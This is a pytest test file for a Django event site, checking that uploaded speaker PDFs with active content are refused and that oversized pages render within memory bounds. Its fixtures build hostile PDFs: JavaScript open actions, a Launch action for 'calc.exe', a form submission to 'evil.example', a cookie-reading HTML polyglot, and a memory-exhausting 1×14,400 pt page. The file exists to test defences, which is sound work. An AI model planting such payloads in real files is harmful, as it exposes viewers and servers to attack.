"""Slides from outside speakers: hostile PDFs are refused or drawn within
bounds, and never in a web request."""

import datetime
import io
import resource
import subprocess
import sys

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.utils import timezone, translation
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from programme import slides
from programme.models import SlidesPreviewStatus
from programme.services import schedule_slides_preview
from programme.slides import (
    PREVIEW_HEIGHT,
    PREVIEW_WIDTH,
    RENDER_MEMORY_BYTES,
    create_slides_preview,
    render_first_page,
    validate_slides,
)
from tests.factories import EventFactory, SessionFactory, publish

MiB = 1024 * 1024


def pdf(*, width: float = 595, height: float = 842, change=None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=width, height=height)
    if change is not None:
        change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def upload(content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile("talk.pdf", content, content_type="application/pdf")


def action(kind: str, **entries) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/S"): NameObject(kind),
            **{NameObject(f"/{key}"): value for key, value in entries.items()},
        }
    )


def open_action_javascript(writer):
    writer._root_object[NameObject("/OpenAction")] = action(
        "/JavaScript", JS=TextStringObject("app.alert(1)")
    )


def document_javascript(writer):
    script = writer._add_object(action("/JavaScript", JS=TextStringObject("x")))
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {
            NameObject("/JavaScript"): DictionaryObject(
                {NameObject("/Names"): ArrayObject([TextStringObject("a"), script])}
            )
        }
    )


def launch_link(writer):
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
            NameObject("/A"): action("/Launch", F=TextStringObject("calc.exe")),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject(
        [writer._add_object(annotation)]
    )


def page_open_action(writer):
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): action("/JavaScript", JS=TextStringObject("x"))}
    )


def submit_form(writer):
    writer._root_object[NameObject("/OpenAction")] = action(
        "/SubmitForm", F=TextStringObject("https://evil.example/")
    )


@pytest.mark.parametrize(
    "change",
    [
        open_action_javascript,
        document_javascript,
        launch_link,
        page_open_action,
        submit_form,
    ],
)
def test_slides_with_scripts_or_launch_actions_are_refused(change):
    with translation.override("en"), pytest.raises(ValidationError) as refused:
        validate_slides(upload(pdf(change=change)))

    assert refused.value.code == "slides_active_content"
    assert "scripts" in refused.value.messages[0]


def test_slides_with_an_ordinary_link_are_accepted():
    def uri_link(writer):
        writer.add_uri(0, "https://example.org/", [0, 0, 10, 10])

    validate_slides(upload(pdf(change=uri_link)))


def test_slides_that_are_also_html_are_refused():
    content = pdf() + b"<details open ontoggle=alert(document.cookie)>"

    with pytest.raises(ValidationError) as refused:
        validate_slides(upload(content))

    assert refused.value.code == "slides_html"


HOSTILE_PAGES = [(1, 1000), (1, 14_400), (14_400, 1), (14_400, 14_400)]


@pytest.mark.parametrize(("width", "height"), HOSTILE_PAGES)
def test_preview_of_a_hostile_page_stays_within_pixels_and_memory(width, height):
    """The attack: a 1 KB PDF of a 1 × 14,400 pt page, drawn 640 px wide with
    no limit on height, took a worker to 2.4 GB (17 GB by hand)."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024

    png, renderer_peak = render_first_page(pdf(width=width, height=height))

    with Image.open(io.BytesIO(png)) as preview:
        assert preview.width <= PREVIEW_WIDTH
        assert preview.height <= PREVIEW_HEIGHT
    # The drawing process stays under its stated bound, far under in fact …
    assert 0 < renderer_peak <= RENDER_MEMORY_BYTES
    assert renderer_peak < 128 * MiB
    # … and the process that asked for it (the mail worker) does not grow.
    after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
    assert after - before < 16 * MiB


def test_renderer_cannot_exceed_its_memory_even_without_the_pixel_cap():
    """Were the pixel cap lost, the address-space limit still stops the
    drawing: the child fails, nothing else grows."""
    result = subprocess.run(
        [
            sys.executable,
            "-I",
            str(slides.RENDERER),
            f"memory={RENDER_MEMORY_BYTES}",
            "width=640",
            "height=100000000",
        ],
        input=pdf(width=1, height=14_400),
        capture_output=True,
        timeout=60,
        check=False,
    )

    assert result.returncode != 0
    assert result.stdout == b""


def test_a_renderer_that_fails_leaves_the_slides_without_a_picture(
    db, monkeypatch, caplog
):
    session = SessionFactory()
    session.slides.save("talk.pdf", upload(pdf()), save=True)
    monkeypatch.setattr(slides, "RENDER_MEMORY_BYTES", 8 * MiB)

    assert not create_slides_preview(session=session)

    session.refresh_from_db()
    assert session.slides_preview_status == SlidesPreviewStatus.FAILED
    assert not session.slides_preview
    assert "No preview for the slides" in caplog.text


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("language", "pending_text"),
    [
        ("en", "The preview of the first page of the slides is being prepared."),
        ("bg", "Прегледът на първата страница на презентацията се подготвя."),
    ],
)
def test_saved_slides_wait_for_the_mail_worker_and_the_page_says_so(
    client, language, pending_text
):
    event = EventFactory(date=timezone.localdate() - datetime.timedelta(days=2))
    session = SessionFactory(event=event, title_en="Prevention", title_bg="Превенция")
    session.slides.save("talk.pdf", upload(pdf(width=1, height=14_400)), save=True)
    publish(event)

    schedule_slides_preview(session=session)  # what the admin does on save

    session.refresh_from_db()
    assert session.slides_preview_status == SlidesPreviewStatus.PENDING
    page = client.get(f"/{language}/agenda/").content.decode()
    assert pending_text in page
    assert session.slides.url in page

    call_command("send_queued_emails", stdout=io.StringIO())  # the worker

    session.refresh_from_db()
    assert session.slides_preview_status == SlidesPreviewStatus.READY
    assert session.slides_preview_height <= PREVIEW_HEIGHT
    page = client.get(f"/{language}/agenda/").content.decode()
    assert pending_text not in page
    assert session.slides_preview.url in page
